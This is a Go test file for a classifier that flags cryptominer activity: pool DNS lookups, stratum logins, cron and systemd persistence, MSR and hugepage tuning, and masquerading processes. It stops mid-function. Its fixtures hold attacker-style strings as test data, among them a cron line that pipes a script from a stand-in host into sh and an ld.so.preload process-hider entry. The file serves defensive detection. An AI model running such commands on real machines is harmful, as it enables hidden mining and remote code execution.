package classify

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cryptochain-otel/cryptochain/internal/contract"
	"github.com/cryptochain-otel/cryptochain/processor/cryptochainprocessor/internal/evidence"
)

func TestPool(t *testing.T) {
	c := newC(t)
	q := &evidence.Event{Name: contract.EventDNSQuery, PID: 1, DNSName: "gulf.moneroocean.stream"}
	got := c.Classify(q)
	require.True(t, has(got, "pool/strong/pool_domain"), "%v", summary(got))
	assert.Equal(t, "gulf.moneroocean.stream", got[0].Endpoint)
	assert.Contains(t, got[0].Source, "moneroocean.stream")

	assert.Empty(t, c.Classify(&evidence.Event{Name: contract.EventDNSQuery, DNSName: "moneroocean.stream.example.org"}))
	assert.Empty(t, c.Classify(&evidence.Event{Name: contract.EventDNSQuery, DNSName: "example.org"}))
	assert.True(t, has(c.Classify(&evidence.Event{Name: contract.EventDNSQuery, DNSName: "POOL.SupportXMR.com."}), "pool/strong/pool_domain"))

	// Before any answer, a connect to 443 of that address is nothing; 3333 is weak.
	conn := &evidence.Event{Name: contract.EventConnect, Address: "203.0.113.9", Port: 443, Transport: "tcp"}
	assert.Empty(t, c.Classify(conn))
	weak := c.Classify(&evidence.Event{Name: contract.EventConnect, Address: "203.0.113.10", Port: 3333, Transport: "tcp"})
	assert.Equal(t, []string{"pool/weak/stratum_port"}, summary(weak))

	// A CNAME chain through a pool domain maps every answered address.
	ans := &evidence.Event{Name: contract.EventDNSAnswer, DNSName: "innocent.example.com",
		DNSCNAMEs: []string{"edge.cdn.example.net", "xmr-eu1.nanopool.org"}, DNSAnswers: []string{"203.0.113.9", "2001:db8::9"}}
	assert.True(t, has(c.Classify(ans), "pool/strong/pool_domain"))
	assert.Equal(t, 2, c.PassiveDNSLen())
	got = c.Classify(conn)
	require.Equal(t, []string{"pool/strong/pool_address"}, summary(got))
	assert.Equal(t, "innocent.example.com:443", got[0].Endpoint, "the name the process asked for")
	assert.Contains(t, got[0].Source, "nanopool.org")
	got = c.Classify(&evidence.Event{Name: contract.EventConnect, Address: "2001:db8:0::9", Port: 14444})
	assert.Equal(t, []string{"pool/strong/pool_address"}, summary(got))
	got = c.Classify(&evidence.Event{Name: contract.EventConnect, Address: "::ffff:203.0.113.9", Port: 80, Result: "error", Failed: true})
	require.Len(t, got, 1)
	assert.True(t, got[0].Failed)

	// An answer for an unrelated name maps nothing.
	c.Classify(&evidence.Event{Name: contract.EventDNSAnswer, DNSName: "example.com", DNSAnswers: []string{"198.51.100.1"}})
	assert.Equal(t, 2, c.PassiveDNSLen())
}

func TestPoolLearnedFromArgv(t *testing.T) {
	c := newC(t)
	c.Classify(exec("/tmp/x", "-o", "stratum+tcp://private-pool.example.net:3333", "-o", "stratum+ssl://198.51.100.77:443"))
	assert.True(t, has(c.Classify(&evidence.Event{Name: contract.EventDNSQuery, DNSName: "private-pool.example.net"}), "pool/strong/pool_domain"))
	got := c.Classify(&evidence.Event{Name: contract.EventConnect, Address: "198.51.100.77", Port: 443})
	require.Equal(t, []string{"pool/strong/pool_address"}, summary(got))
	assert.Equal(t, "198.51.100.77:443", got[0].Endpoint)
	assert.Empty(t, c.Classify(&evidence.Event{Name: contract.EventConnect, Address: "198.51.100.77", Port: 4317}), "another port of that address")
	c.Classify(exec("/tmp/x", "-o", "stratum+tcp://localhost:3333"))
	assert.Empty(t, c.Classify(&evidence.Event{Name: contract.EventDNSQuery, DNSName: "localhost"}))
	// proxy of a miner
	c.Classify(exec("/tmp/x", "-o", "pool.supportxmr.com:443", "-x", "socks5://192.0.2.50:1080"))
	assert.True(t, has(c.Classify(&evidence.Event{Name: contract.EventConnect, Address: "192.0.2.50", Port: 1080}), "pool/strong/pool_address"))
}

func TestPayload(t *testing.T) {
	c := newC(t)
	login := `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"` + xmr + `.w1","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.2.0","algo":["rx/0","cn/r"]}}` + "\n"
	for _, tc := range []struct {
		name    string
		payload string
		wallet  string
	}{
		{"xmrig login", login, xmr},
		{"xmrig login truncated at 256", login[:256], xmr},
		{"subscribe", `{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}` + "\n", ""},
		{"authorize after subscribe", `{"id":1,"method":"mining.subscribe","params":[]}` + "\n" + `{"id":2,"method":"mining.authorize","params":["` + eth + `.rig","x"]}`, ""},
		{"eth_submitLogin", `{"worker": "eth1.0", "jsonrpc": "2.0", "params": ["` + eth + `", "x"], "id": 1, "method": "eth_submitLogin"}`, eth},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := c.Classify(&evidence.Event{Name: contract.EventPayload, Address: "192.0.2.1", Port: 443, Payload: tc.payload})
			require.True(t, has(got, "miner/strong/stratum_login"), "%v", summary(got))
			require.True(t, has(got, "pool/strong/stratum_payload"), "%v", summary(got))
			assert.Equal(t, "192.0.2.1:443", got[1].Endpoint)
			if tc.wallet != "" {
				assert.Equal(t, tc.wallet, got[0].Wallet)
			}
		})
	}
	for _, p := range []string{
		`{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":1}`,
		`{"jsonrpc":"2.0","method":"login","params":{"username":"alice","password":"x"},"id":1}`,
		"GET / HTTP/1.1\r\nHost: example.com\r\n\r\n",
		"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
		`{"method":"mining.subscribe"`, // would match: method alone is mining-only
	}[:4] {
		assert.Empty(t, c.Classify(&evidence.Event{Name: contract.EventPayload, Address: "192.0.2.1", Port: 443, Payload: p}), p)
	}
}

func TestPersistence(t *testing.T) {
	c := newC(t)
	fw := func(path, op, content string, failed bool) *evidence.Event {
		return &evidence.Event{Name: contract.EventFileWrite, PID: 7, Exe: "/usr/bin/bash", Path: path, Op: op, Content: content, Failed: failed}
	}
	for _, tc := range []struct {
		name string
		ev   *evidence.Event
		kind string
		cmd  string
	}{
		{"etc crontab", fw("/etc/crontab", "open", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n*/5 * * * * root /tmp/.x/run -o stratum+tcp://p.example:3333\n", false), "cron", "/tmp/.x/run -o stratum+tcp://p.example:3333"},
		{"cron.d", fw("/etc/cron.d/sys", "create", "@reboot root /var/tmp/kdevtmpfsi\n", false), "cron", "/var/tmp/kdevtmpfsi"},
		{"debian spool", fw("/var/spool/cron/crontabs/root", "rename", "* * * * * curl -s http://x.example/a.sh | sh\n", false), "cron", "curl -s http://x.example/a.sh | sh"},
		{"rhel spool", fw("/var/spool/cron/root", "open", "*/10 * * * * /root/.cache/upd >/dev/null 2>&1\n", false), "cron", "/root/.cache/upd >/dev/null 2>&1"},
		{"alpine", fw("/etc/crontabs/root", "open", "", false), "cron", ""},
		{"cron.hourly script", fw("/etc/cron.hourly/upd", "create", "#!/bin/sh\n/tmp/x &\nexit 0\n", false), "cron", "/tmp/x &"},
		{"anacrontab", fw("/etc/anacrontab", "open", "1 5 cron.daily /tmp/x\n", false), "anacron", "/tmp/x"},
		{"at spool", fw("/var/spool/cron/atjobs/a0001", "create", "#!/bin/sh\ncd /tmp\n/tmp/miner\n", false), "at", "/tmp/miner"},
		{"system unit", fw("/etc/systemd/system/sysupd.service", "create", "[Unit]\nDescription=x\n[Service]\nExecStart=-/usr/local/bin/sysupd --donate-level 1\nRestart=always\n[Install]\nWantedBy=multi-user.target\n", false), "systemd", "/usr/local/bin/sysupd --donate-level 1"},
		{"user unit", fw("/home/bob/.config/systemd/user/u.service", "create", "", false), "systemd", ""},
		{"timer", fw("/etc/systemd/system/u.timer", "create", "[Timer]\nOnCalendar=*:0/5\nUnit=u.service\n", false), "systemd", "unit u.service"},
		{"wants symlink", &evidence.Event{Name: contract.EventFileWrite, Exe: "/usr/bin/systemctl", Path: "/etc/systemd/system/multi-user.target.wants/u.service", Op: "symlink", SourcePath: "/etc/systemd/system/u.service"}, "systemd", "unit u.service"},
		{"rc.local", fw("/etc/rc.local", "open", "#!/bin/sh -e\n/opt/x/run &\nexit 0\n", false), "rc", "/opt/x/run &"},
		{"init.d chmod", fw("/etc/init.d/upd", "chmod", "", false), "rc", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := c.Classify(tc.ev)
			require.Len(t, got, 1, "%v", summary(got))
			e := got[0]
			assert.Equal(t, evidence.Persistence, e.Group)
			assert.Equal(t, evidence.Strong, e.Strength)
			assert.Equal(t, tc.kind, e.Kind)
			assert.Equal(t, tc.ev.Path, e.Path)
			assert.Equal(t, tc.cmd, e.Command)
		})
	}
	// The crontab binary's rename of its staging file onto the table, and a direct write, count.
	for _, ev := range []*evidence.Event{
		{Name: contract.EventFileWrite, Exe: "/usr/bin/crontab", Path: "/var/spool/cron/crontabs/root", SourcePath: "/var/spool/cron/crontabs/tmp.mmvz4b", Op: "rename"},
		{Name: contract.EventFileWrite, Exe: "/usr/bin/crontab", Path: "/var/spool/cron/root", Op: "open"},
		{Name: contract.EventFileWrite, Exe: "/usr/bin/bash", Path: "/var/spool/cron/crontabs/tmp.x", Op: "open"},
	} {
		got := c.Classify(ev)
		require.Len(t, got, 1, "%s", ev.Path)
		assert.Equal(t, ev.Path, got[0].Path)
		assert.Equal(t, evidence.Strong, got[0].Strength)
	}
	failed := c.Classify(fw("/etc/cron.d/x", "create", "", true))
	require.Len(t, failed, 1)
	assert.True(t, failed[0].Failed)

	// Not persistence.
	for _, ev := range []*evidence.Event{
		fw("/etc/cron.d/x", "unlink", "", false),
		fw("/etc/cron.deny.bak", "open", "", false),
		fw("/var/log/cron.log", "open", "", false),
		{Name: contract.EventFileWrite, Exe: "/usr/bin/dpkg", Path: "/lib/systemd/system/nginx.service", Op: "rename"},
		// inside a chroot, or an image layer a container runtime unpacks in a mount namespace of its own
		{Name: contract.EventFileWrite, Exe: "/usr/bin/bash", Path: "/etc/cron.d/x", Op: "create", FileRoot: contract.FileRootChroot},
		{Name: contract.EventFileWrite, Exe: "/usr/bin/podman", Path: "/var/spool/cron/crontabs/root", Op: "create", FileRoot: contract.FileRootPrivate},
		{Name: contract.EventFileWrite, Exe: "/usr/lib/systemd/systemd", Path: "/run/systemd/system/session-1.scope", Op: "create"},
		{Name: contract.EventFileOpen, Path: "/etc/crontab", Op: "open"},
		// crontab's staging files: the rename onto the user's table is the act.
		{Name: contract.EventFileWrite, Exe: "/usr/bin/crontab", Path: "/var/spool/cron/crontabs/tmp.mmvz4b", Op: "create"},
		{Name: contract.EventFileWrite, Exe: "/usr/bin/crontab", Path: "/var/spool/cron/#tmp.host.XXXXjs8w", Op: "open"},
		{Name: contract.EventFileWrite, Exe: "/bin/crontab", Path: "/etc/crontabs/root.new", Op: "open"},
	} {
		assert.Empty(t, c.Classify(ev), ev.Path)
	}
}

func TestCrontabExec(t *testing.T) {
	c := newC(t)
	for _, tc := range []struct {
		args []string
		want string
	}{
		// Replacing a table is weak: the spool write that follows is the act, with the true path.
		{[]string{"crontab", "/tmp/cron.txt"}, "persistence/weak/crontab"},
		{[]string{"crontab", "-"}, "persistence/weak/crontab"},
		{[]string{"crontab", "-u", "root", "/tmp/c"}, "persistence/weak/crontab"},
		{[]string{"crontab", "-e"}, "persistence/weak/crontab"},
		{[]string{"crontab", "-l"}, ""},
		{[]string{"crontab", "-u", "bob", "-l"}, ""},
		{[]string{"crontab", "-r"}, ""},
	} {
		got := c.Classify(exec(tc.args...))
		if tc.want == "" {
			assert.Empty(t, got, "%v", tc.args)
		} else {
			assert.Equal(t, []string{tc.want}, summary(got), "%v", tc.args)
		}
	}
	// No fake path: `-` is stdin, FILE is only the source of the new table.
	got := c.Classify(exec("crontab", "-"))
	require.Len(t, got, 1)
	assert.Empty(t, got[0].Path)
	assert.Equal(t, "crontab - (replaces the invoking user's table)", got[0].Action)
	got = c.Classify(exec("crontab", "-u", "bob", "/tmp/c"))
	require.Len(t, got, 1)
	assert.Empty(t, got[0].Path)
	assert.Equal(t, "crontab /tmp/c (replaces bob's table)", got[0].Action)
	assert.Contains(t, got[0].Source, "/tmp/c")
	// A failed crontab exec is recorded as failed.
	ev := exec("crontab", "/tmp/c")
	ev.Name, ev.Failed = contract.EventExecFailed, true
	got = c.Classify(ev)
	require.Len(t, got, 1)
	assert.True(t, got[0].Failed)
}

func TestOptimization(t *testing.T) {
	c := newC(t)
	fw := func(name, path string, failed bool) *evidence.Event {
		return &evidence.Event{Name: name, Path: path, Op: "open", Failed: failed}
	}
	sys := func(name, value string) *evidence.Event {
		return &evidence.Event{Name: contract.EventSysctlWrite, SysctlName: name, SysctlValue: value, Path: "/proc/sys/" + strings.ReplaceAll(name, ".", "/")}
	}
	for _, tc := range []struct {
		name string
		ev   *evidence.Event
		want string
	}{
		{"msr write", fw(contract.EventFileWrite, "/dev/cpu/0/msr", false), "optimization/strong/msr"},
		{"msr read-only open", fw(contract.EventFileOpen, "/dev/cpu/3/msr", false), "optimization/strong/msr"},
		{"msr refused", fw(contract.EventFileWrite, "/dev/cpu/1/msr", true), "optimization/strong/msr"},
		{"allow_writes", fw(contract.EventFileWrite, "/sys/module/msr/parameters/allow_writes", false), "optimization/strong/msr"},
		{"wrmsr", exec("wrmsr", "-a", "0x1a4", "0xf"), "optimization/strong/msr"},
		{"modprobe allow_writes", exec("modprobe", "msr", "allow_writes=on"), "optimization/strong/msr"},
		{"modprobe msr", exec("modprobe", "msr"), "optimization/weak/msr"},
		{"sysctl hugepages", sys("vm.nr_hugepages", "1280"), "optimization/strong/hugepages"},
		{"proc hugepages write", fw(contract.EventFileWrite, "/proc/sys/vm/nr_hugepages", false), "optimization/strong/hugepages"},
		{"sysfs hugepages", fw(contract.EventFileWrite, "/sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages", false), "optimization/strong/hugepages"},
		{"1GB per node", fw(contract.EventFileWrite, "/sys/devices/system/node/node0/hugepages/hugepages-1048576kB/nr_hugepages", false), "optimization/strong/hugepages"},
		{"sysctl exec", exec("sysctl", "-w", "vm.nr_hugepages=128"), "optimization/strong/hugepages"},
		{"drop caches", sys("vm.drop_caches", "3"), "optimization/strong/drop_caches"},
		{"drop caches file", fw(contract.EventFileWrite, "/proc/sys/vm/drop_caches", false), "optimization/strong/drop_caches"},
		{"governor", fw(contract.EventFileWrite, "/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", false), "optimization/strong/cpu_governor"},
		{"boost", fw(contract.EventFileWrite, "/sys/devices/system/cpu/cpufreq/boost", false), "optimization/strong/cpu_governor"},
		{"cpupower", exec("cpupower", "frequency-set", "-g", "performance"), "optimization/strong/cpu_governor"},
		{"nmi watchdog", sys("kernel.nmi_watchdog", "0"), "optimization/strong/nmi_watchdog"},
		{"nmi sysctl exec", exec("sysctl", "kernel.nmi_watchdog=0"), "optimization/strong/nmi_watchdog"},
		{"pkill miner", exec("pkill", "-9", "-f", "xmrig"), "optimization/strong/kill_miner"},
		{"killall miners", exec("killall", "-9", "kdevtmpfsi", "kinsing"), "optimization/strong/kill_miner"},
		{"kill event miner", &evidence.Event{Name: contract.EventKill, KillTargetPID: 5, KillSignal: 9, KillTargetName: "xmrig"}, "optimization/strong/kill_miner"},
		{"kill event other", &evidence.Event{Name: contract.EventKill, KillTargetPID: 5, KillSignal: 9, KillTargetName: "nginx"}, "optimization/weak/kill"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := c.Classify(tc.ev)
			assert.Equal(t, []string{tc.want}, summary(got))
			if tc.ev.Failed {
				assert.True(t, got[0].Failed)
			}
		})
	}
	for _, ev := range []*evidence.Event{
		fw(contract.EventFileOpen, "/proc/sys/vm/drop_caches", false), // a read
		sys("vm.nr_hugepages", "0"),
		sys("kernel.nmi_watchdog", "1"),
		sys("vm.swappiness", "10"),
		exec("sysctl", "-a"),
		exec("sysctl", "vm.nr_hugepages"),
		exec("modprobe", "nf_conntrack"),
		exec("rdmsr", "0x1a4"),
		exec("pkill", "-HUP", "nginx"),
		{Name: contract.EventKill, KillTargetPID: 5, KillSignal: 0, KillTargetName: "xmrig"},
		{Name: contract.EventKill, Exe: "/usr/lib/systemd/systemd", KillTargetPID: 5, KillSignal: 15, KillTargetName: "nginx"},
		fw(contract.EventFileOpen, "/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", false),
	} {
		assert.Empty(t, c.Classify(ev), "%+v", ev)
	}
}

func TestBehaviour(t *testing.T) {
	c := newC(t)
	fpu := func(nd, n int64) *evidence.Event {
		return &evidence.Event{Name: contract.EventFPURounding, FPUMXCSR: 0x5f80, FPUNonDefault: nd, FPUSamples: n}
	}
	assert.Equal(t, []string{"miner/strong/randomx_fpu"}, summary(c.Classify(fpu(300, 400))))
	assert.Equal(t, []string{"miner/strong/randomx_fpu"}, summary(c.Classify(fpu(40, 0))))
	// The receiver's first report: the 8th non-default sample of the window, default ones mixed in.
	assert.Equal(t, []string{"miner/strong/randomx_fpu"}, summary(c.Classify(fpu(8, 11))))
	assert.Empty(t, c.Classify(fpu(8, 8)), "only non-default samples: one mode kept")
	assert.Empty(t, c.Classify(fpu(3, 400)))   // too few
	assert.Empty(t, c.Classify(fpu(400, 400))) // stuck in one mode: scientific code set once
	assert.Empty(t, c.Classify(fpu(20, 4000))) // rare

	cfg := `{"autosave":true,"cpu":{"enabled":true,"huge-pages":true},"randomx":{"1gb-pages":true,"wrmsr":true},` +
		`"donate-level":1,"pools":[{"url":"pool.hashvault.pro:443","user":"` + xmr + `","pass":"x","tls":true}]}`
	got := c.Classify(&evidence.Event{Name: contract.EventConfigFile, Path: "/tmp/.x/config.json", Content: cfg})
	require.True(t, has(got, "miner/strong/miner_config"), "%v", summary(got))
	assert.True(t, has(got, "optimization/weak/config_tuning"))
	assert.Equal(t, xmr, got[0].Wallet)
	assert.Equal(t, "pool.hashvault.pro:443", got[0].Endpoint)
	// truncated config still recognised
	got = c.Classify(&evidence.Event{Name: contract.EventConfigFile, Path: "/tmp/.x/config.json", Content: cfg[:len(cfg)-30]})
	assert.True(t, has(got, "miner/strong/miner_config"), "%v", summary(got))
	// ordinary JSON config is not a miner config
	assert.Empty(t, c.Classify(&evidence.Event{Name: contract.EventConfigFile, Path: "/opt/app/config.json", Content: `{"url":"https://api.example.com","timeout":3}`}))

	// masquerade
	for _, tc := range []struct {
		name string
		ev   *evidence.Event
	}{
		{"memfd", &evidence.Event{Name: contract.EventExec, Exe: "/memfd:x (deleted)", ExeMemfd: true, Args: []string{"x"}}},
		{"deleted", &evidence.Event{Name: contract.EventExec, Exe: "/usr/local/bin/x", ExeDeleted: true, Args: []string{"x"}}},
		{"dev shm", exec("/dev/shm/x")},
		{"hidden dir", exec("/root/.configs/x")},
		{"argv0 differs", &evidence.Event{Name: contract.EventExec, Exe: "/usr/local/bin/xm", Filename: "/usr/local/bin/xm", Args: []string{"nginx: worker process"}}},
		{"kthread name", &evidence.Event{Name: contract.EventExec, Exe: "/usr/local/bin/x", Filename: "/usr/local/bin/x", Args: []string{"[kthreadd]"}}},
		{"kworker name", &evidence.Event{Name: contract.EventExec, Exe: "/usr/local/bin/kw", Filename: "/usr/local/bin/kw", Args: []string{"kworker/0:1"}}},
		{"rename", &evidence.Event{Name: contract.EventRename, CommOld: "x", Comm: "kworker/1:2"}},
		{"receiver flag: unusual location", &evidence.Event{Name: contract.EventExec, Exe: "/srv/x", UnusualLocation: true, Args: []string{"x"}}},
		{"receiver flag: name mismatch", &evidence.Event{Name: contract.EventExec, Exe: "/srv/x", NameMismatch: true, Args: []string{"y"}}},
		{"receiver flag: kthread", &evidence.Event{Name: contract.EventExec, Exe: "/srv/x", KthreadLike: true, Args: []string{"kdevtmpfsx"}}},
		{"receiver flag: rename", &evidence.Event{Name: contract.EventRename, CommOld: "x", Comm: "kswapd1x", KthreadLike: true}},
	} {
		got := c.Classify(tc.ev)
		assert.True(t, has(got, "miner/weak/masquerade"), "%s: %v", tc.name, summary(got))
		assert.False(t, strongIn(got, evidence.Miner), tc.name)
	}
	for _, ev := range []*evidence.Event{
		exec("/opt/kworker-metrics/bin/kworker-metrics"),
		exec("/home/bob/.local/bin/black"),
		{Name: contract.EventExec, Exe: "/usr/bin/mawk", Filename: "/usr/bin/awk", Args: []string{"awk", "-F:"}},
		{Name: contract.EventExec, Exe: "/usr/bin/bash", Filename: "/bin/bash", Args: []string{"-bash"}},
		{Name: contract.EventExec, Exe: "/usr/bin/python3.12", Filename: "/usr/bin/python3", Args: []string{"python3"}},
		{Name: contract.EventRename, CommOld: "java", Comm: "C2 CompilerThre"},
		{Name: contract.EventExec, Exe: "/usr/bin/runc", Filename: "/proc/self/exe", Args: []string{"runc", "init"}},
	} {
		assert.Empty(t, c.Classify(ev), "%+v", ev)
	}
}

func TestEnv(t *testing.T) {
	c := newC(t)
	ev := exec("/usr/local/bin/entrypoint")
	ev.EnvVars = []evidence.EnvVar{{Name: "POOL_URL", Value: "stratum+tcp://pool.example.net:3333"}, {Name: "PATH", Value: "/usr/bin"}, {Name: "HOME", Value: "/root"}}
	got := c.Classify(ev)
	assert.True(t, has(got, "miner/strong/env"), "%v", summary(got))
	assert.True(t, has(got, "miner/weak/env_name"))
	ev.EnvVars = []evidence.EnvVar{{Name: "ARGS", Value: "-u " + xmr + " --tls"}}
	assert.Equal(t, []string{"miner/strong/env"}, summary(c.Classify(ev)))
	ev.EnvVars = []evidence.EnvVar{{Name: "WALLET", Value: eth}}
	assert.True(t, has(c.Classify(ev), "miner/strong/env"))
	ev.EnvVars = []evidence.EnvVar{{Name: "WALLET", Value: "[REDACTED]"}}
	assert.Equal(t, []string{"miner/weak/env_name"}, summary(c.Classify(ev)))
	ev.EnvVars = []evidence.EnvVar{{Name: "LS_COLORS", Value: strings.Repeat("di=01;34:", 200)}, {Name: "GIT_COMMIT", Value: eth}}
	assert.Empty(t, c.Classify(ev))
}

func TestConfig(t *testing.T) {
	_, err := New(Config{ExtraPatterns: []string{"ok", "(unclosed"}})
	assert.ErrorContains(t, err, "indicators.patterns[1]")
	assert.ErrorContains(t, err, "(unclosed")
	_, err = New(Config{ExtraPatterns: []string{".*"}})
	assert.ErrorContains(t, err, "indicators.patterns[0]")
	_, err = New(Config{ExtraPoolDomains: []string{"not a domain"}})
	assert.ErrorContains(t, err, "indicators.pool_domains[0]")
	_, err = New(Config{PassiveDNSEntries: -1})
	assert.ErrorContains(t, err, "passive_dns_entries")

	c, err := New(Config{ExtraPatterns: []string{`mypool\.internal:\d+`}, ExtraMinerNames: []string{"Sysmon-Agent"}, ExtraPoolDomains: []string{"corp-pool.example"}, ExtraPersistence: []string{"/opt/agent/hooks.d/"}, PassiveDNSEntries: 1})
	require.NoError(t, err)
	got := c.Classify(exec("/usr/bin/sysmon-agent", "--target", "mypool.internal:7777"))
	assert.True(t, has(got, "miner/strong/pattern"), "%v", summary(got))
	assert.True(t, has(got, "miner/weak/miner_name"), "%v", summary(got))
	assert.True(t, has(c.Classify(&evidence.Event{Name: contract.EventDNSQuery, DNSName: "a.corp-pool.example"}), "pool/strong/pool_domain"))
	assert.True(t, has(c.Classify(&evidence.Event{Name: contract.EventFileWrite, Path: "/opt/agent/hooks.d/x.sh", Op: "create"}), "persistence/strong/custom"))
	c.Classify(&evidence.Event{Name: contract.EventDNSAnswer, DNSName: "a.corp-pool.example", DNSAnswers: []string{"192.0.2.1", "192.0.2.2", "192.0.2.3"}})
	assert.Equal(t, 1, c.PassiveDNSLen(), "bounded")
}

func TestLateSignalsNameEarlierConnections(t *testing.T) {
	c := newC(t)
	// RandomX behaviour seen after the (TLS, no name) connection was made.
	c.Classify(&evidence.Event{Name: contract.EventConnect, PID: 9, Start: "t9", Address: "127.0.0.1", Port: 8443, Transport: "tcp", Result: "ok"})
	c.Classify(&evidence.Event{Name: contract.EventConnect, PID: 10, Start: "t10", Address: "127.0.0.1", Port: 8443, Transport: "tcp", Result: "ok"})
	got := c.Classify(&evidence.Event{Name: contract.EventFPURounding, PID: 9, Start: "t9", FPUNonDefault: 300, FPUSamples: 400})
	require.Equal(t, []string{"miner/strong/randomx_fpu", "pool/weak/randomx_connection"}, summary(got))
	assert.Equal(t, "127.0.0.1:8443", got[1].Endpoint)
	// and later connections of that process
	got = c.Classify(&evidence.Event{Name: contract.EventConnect, PID: 9, Start: "t9", Address: "192.0.2.8", Port: 8443, Transport: "tcp"})
	assert.Equal(t, []string{"pool/weak/randomx_connection"}, summary(got))
	assert.Empty(t, c.Classify(&evidence.Event{Name: contract.EventConnect, PID: 10, Start: "t10", Address: "192.0.2.8", Port: 8443, Transport: "tcp"}))
	assert.Empty(t, c.Classify(&evidence.Event{Name: contract.EventConnect, PID: 9, Start: "other", Address: "192.0.2.8", Port: 8443, Transport: "tcp"}), "pid reused")

	// A miner config read after the process resolved and reached its (unlisted) pool.
	c.Classify(&evidence.Event{Name: contract.EventDNSAnswer, PID: 11, DNSName: "private.example", DNSAnswers: []string{"192.0.2.5"}})
	c.Classify(&evidence.Event{Name: contract.EventConnect, PID: 11, Address: "192.0.2.5", Port: 3000, Transport: "tcp", Result: "in_progress"})
	got = c.Classify(&evidence.Event{Name: contract.EventConfigFile, PID: 11, Path: "/tmp/.x/config.json",
		Content: `{"pools":[{"url":"private.example:3000","user":"` + xmr + `"}]}`})
	require.True(t, has(got, "miner/strong/miner_config"), "%v", summary(got))
	require.True(t, has(got, "pool/strong/pool_address"), "%v", summary(got))
	for _, e := range got {
		if e.Kind == KindPoolAddress {
			assert.Equal(t, "private.example:3000", e.Endpoint)
		}
	}
}

func TestEnvVarsList(t *testing.T) {
	c := newC(t)
	ev := exec("/usr/local/bin/entrypoint")
	ev.EnvVars = []evidence.EnvVar{{Name: "PATH", Value: "/usr/bin"}, {Name: "POOL_URL", Value: "stratum+tcp://pool.example.net:3333"}}
	got := c.Classify(ev)
	assert.True(t, has(got, "miner/strong/env"), "%v", summary(got))
	assert.True(t, has(got, "miner/weak/env_name"), "%v", summary(got))
}

func TestUnusualExe(t *testing.T) {
	for exe, want := range map[string]bool{
		"/tmp/x": true, "/var/tmp/x": true, "/dev/shm/x": true, "/root/.x/y": true, "/home/u/.cache/upd": true,
		"/usr/bin/x": false, "/home/u/.local/bin/x": false, "/opt/a.b/x": false, "/usr/lib/x/../y": false,
		"/usr/./bin/x": false, "/usr/bin/.hidden": false, "/memfd:x": true, "/run/user/0/x": true, "": false,
	} {
		assert.Equal(t, want, unusualExe(exe) != "", exe)
	}
}

func TestExecFailedUsesTheAskedProgram(t *testing.T) {
	c := newC(t)
	ev := &evidence.Event{Name: contract.EventExecFailed, Failed: true, Exe: "/usr/bin/bash", ExeName: "bash", Comm: "bash",
		Filename: "/usr/sbin/modprobe", Args: []string{"modprobe", "msr", "allow_writes=on"}, ErrorType: "EPERM"}
	got := c.Classify(ev)
	require.Equal(t, []string{"optimization/strong/msr"}, summary(got))
	assert.True(t, got[0].Failed, "failed attempts are marked (and still count for optimization)")

	ev = &evidence.Event{Name: contract.EventExecFailed, Failed: true, Exe: "/usr/bin/bash", ExeName: "bash",
		Filename: "/tmp/xmrig", Args: []string{"/tmp/xmrig", "-o", "stratum+tcp://pool.example.net:3333"}, ErrorType: "EACCES"}
	got = c.Classify(ev)
	require.True(t, has(got, "miner/strong/pool_url"), "%v", summary(got))
	for _, e := range got {
		assert.True(t, e.Failed)
	}
}

func TestConnectEndpointIsTheQueriedName(t *testing.T) {
	c := newC(t)
	c.Classify(&evidence.Event{Name: contract.EventDNSAnswer, DNSName: "xmr-eu1.nanopool.org", DNSAnswers: []string{"127.0.0.1"}})
	got := c.Classify(&evidence.Event{Name: contract.EventConnect, Address: "127.0.0.1", Port: 14444, Transport: "tcp"})
	require.Equal(t, []string{"pool/strong/pool_address"}, summary(got))
	assert.Equal(t, "xmr-eu1.nanopool.org:14444", got[0].Endpoint)
}

func TestPersistenceScripts(t *testing.T) {
	c := newC(t)
	at := "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\nSHELL=/bin/bash; export SHELL\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER4a1b2c'\n/tmp/.x/run -o pool.example.net:3333\n\nmarcinDELIMITER4a1b2c\n"
	got := c.Classify(&evidence.Event{Name: contract.EventFileWrite, Path: "/var/spool/cron/atjobs/a00001019a2b3c", Op: "create", Content: at})
	require.Len(t, got, 1)
	assert.Equal(t, "at", got[0].Kind)
	assert.Equal(t, "/tmp/.x/run -o pool.example.net:3333", got[0].Command)
	got = c.Classify(&evidence.Event{Name: contract.EventFileWrite, Path: "/etc/ld.so.preload", Op: "open", Content: "/usr/local/lib/libprocesshider.so\n"})
	require.Len(t, got, 1)
	assert.Equal(t, "preload", got[0].Kind)
}

func TestPayloadSortedKeysTruncated(t *testing.T) {
	c := newC(t)
	// Encoders that sort keys (Go's encoding/json) put "agent" before "login"; the capture is 256 bytes.
	p := `{"id":1,"jsonrpc":"2.0","method":"login","params":{"agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","login":"` + xmr + `","pass":"x","rigid":""}}` + "\n"
	for _, n := range []int{len(p), 256, 200, 150} {
		got := c.Classify(&evidence.Event{Name: contract.EventPayload, Address: "127.0.0.1", Port: 443, Payload: p[:min(n, len(p))]})
		require.True(t, has(got, "miner/strong/stratum_login"), "%d: %v", n, summary(got))
		require.True(t, has(got, "pool/strong/stratum_payload"), "%d: %v", n, summary(got))
	}
	got := c.Classify(&evidence.Event{Name: contract.EventPayload, Address: "127.0.0.1", Port: 443, Payload: p})
	assert.Equal(t, xmr, got[0].Wallet)
}

// connectAddr remembers the last parse; it must answer exactly as parseAddr does, in any order.
func TestConnectAddrCache(t *testing.T) {
	c := newC(t)
	long := strings.Repeat("1", maxAddrText+1)
